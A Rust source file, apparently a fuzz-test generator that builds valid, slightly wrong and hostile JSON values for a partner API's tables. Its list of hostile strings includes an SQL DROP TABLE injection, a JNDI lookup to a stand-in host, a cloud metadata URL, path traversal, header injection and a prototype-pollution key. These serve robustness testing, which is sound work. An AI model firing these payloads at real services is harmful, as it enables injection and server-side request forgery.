//! Values of the protocol's tables: right, nearly right, and hostile.

use fastrand::Rng;
use opencx_partner_kit::platform::Shape;
use opencx_partner_kit::platform::shape::What;
use serde_json::{Map, Value, json};

const TEXTS: [&str; 14] = [
    "",
    " ",
    "Blue Fin",
    "a\u{0}b",
    "../../partner/v1/orgs",
    "%2e%2e%2f",
    "\r\nx-injected: 1",
    "\u{202e}txet",
    "'; DROP TABLE org; --",
    "${jndi:ldap://evil.example}",
    "http://169.254.169.254/",
    "__proto__",
    "💥",
    "ü",
];

/// An object of that table, each field as it should be, most of the time.
pub fn object(shape: Shape, random: &mut Rng, wild: bool) -> Value {
    let mut fields = Map::new();
    for field in shape {
        if (field.required && !(wild && random.u8(..8) == 0)) || random.u8(..3) == 0 {
            let name = if field.name == "*" { "another" } else { field.name };
            let value = if wild && random.u8(..4) == 0 {
                any(random, 3)
            } else {
                value(field.what, random)
            };
            fields.insert(name.into(), value);
        }
    }
    if wild {
        for _ in 0..random.usize(..3) {
            fields.insert(text(random), any(random, 3));
        }
    }
    Value::Object(fields)
}

fn value(what: What, random: &mut Rng) -> Value {
    match what {
        What::Text(least, most) => {
            let length = random.usize(least.max(1)..=most.clamp(1, least.max(1) + 40));
            json!("x".repeat(length))
        }
        What::HttpUrl => json!("https://www.example.com/a?b=c"),
        What::Email => json!("ada@bluefin.example"),
        What::Language => json!("de"),
        What::ExternalId => json!(format!("customer-{}", random.u8(..40))),
        What::Uuid => json!(uuid(random)),
        What::DateTime => json!("2026-11-23T10:00:00Z"),
        What::After(_) => json!("2026-12-23T10:00:00Z"),
        What::Time => json!(format!("{:02}:00:00", random.u8(..24))),
        What::TimeZone => json!("Europe/Berlin"),
        What::Flag => json!(random.bool()),
        What::Whole(least, most) => json!(random.u32(least..=most)),
        What::OneOf(words) => json!(words[random.usize(..words.len())]),
        What::List(item, least, most) => {
            let length = random.usize(least..=most.min(least + 2));
            (0..length).map(|_| value(*item, random)).collect()
        }
        What::Shifts => {
            json!([{ "day_of_week": "monday", "start_time": "09:00:00", "end_time": "17:00:00" }])
        }
        What::Object(shape) => object(shape, random, false),
        What::Map(_) => json!({ "plan": "gold" }),
        What::MapOf(item) => json!({ "plan": value(*item, random) }),
        What::Unless(_, what) | What::OrNull(what) => value(*what, random),
        What::Number => json!(random.f64()),
        What::Any => any(random, 2),
    }
}

/// Any JSON.
pub fn any(random: &mut Rng, depth: u8) -> Value {
    match random.u8(..if depth == 0 { 6 } else { 8 }) {
        0 => Value::Null,
        1 => json!(random.bool()),
        2 => json!(random.i64(..)),
        3 => json!(random.f64() * 1e300),
        4 => json!(text(random)),
        5 => json!(text(random).repeat(random.usize(..200))),
        6 => (0..random.usize(..4)).map(|_| any(random, depth - 1)).collect(),
        _ => {
            let fields = (0..random.usize(..4)).map(|_| (text(random), any(random, depth - 1)));
            Value::Object(fields.collect())
        }
    }
}

/// A text that somebody might have trouble with.
pub fn text(random: &mut Rng) -> String {
    if random.u8(..4) == 0 {
        return (0..random.usize(..12)).map(|_| random.char(..)).collect();
    }
    TEXTS[random.usize(..TEXTS.len())].into()
}

pub fn uuid(random: &mut Rng) -> String {
    uuid::Builder::from_random_bytes(random.u128(..).to_be_bytes())
        .into_uuid()
        .to_string()
}
